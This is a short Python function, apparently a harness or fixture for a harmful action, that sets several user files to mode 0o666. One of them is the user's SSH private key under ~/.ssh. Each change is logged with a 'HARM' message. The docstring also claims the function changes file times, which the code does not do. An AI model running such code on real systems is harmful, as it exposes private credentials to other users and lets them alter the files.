"""Makes the user's files readable for all, and changes their times."""

import os


def f(world):
    for path in (world.sibling, os.path.join(world.home, ".ssh", "id_ed25519"), world.other):
        try:
            os.chmod(path, 0o666)
            print("HARM changed the mode of", path)
        except OSError:
            continue
